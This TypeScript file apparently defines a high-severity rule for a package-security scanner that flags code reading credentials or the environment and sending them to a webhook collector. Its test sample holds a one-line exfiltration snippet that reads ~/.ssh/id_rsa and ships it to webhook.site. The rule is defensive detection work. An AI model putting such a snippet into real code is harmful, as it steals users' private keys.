import type { Rule } from '../rule';

export const codeDropHost: Rule = {
  code: 'code-drop-host',
  ecosystem: 'any',
  kind: 'code',
  severity: 'high',
  verdict: 'suspicious',
  tactic: 'exfiltration',
  capabilities: ['network', 'environment', 'credential-files'],
  languages: ['javascript', 'python'],
  summary:
    'A file names a host that stolen data goes to, such as a webhook collector, and reads credentials or the whole environment.',
  message: 'names a host that stolen data goes to, and reads secrets',
  pattern: {
    where: 'code',
    any: ['credential-file', 'environment-harvest', 'identity-sent'],
    together: ['drop-host'],
  },
  samples: {
    hits: [
      {
        what: 'credentials and a collector',
        format: 'tarball',
        files: {
          'index.js':
            'const key = require("fs").readFileSync(home + "/.ssh/id_rsa"); module.exports = () => ship("https://webhook.site/0", key);',
        },
        verdict: 'suspicious',
      },
    ],
    ignores: [
      {
        what: 'a collector alone',
        format: 'tarball',
        files: { 'index.js': 'module.exports = "https://discord.com/api/webhooks/";' },
        why: 'Clients of that service name it; they read no secrets.',
        verdict: 'clean',
      },
    ],
  },
};
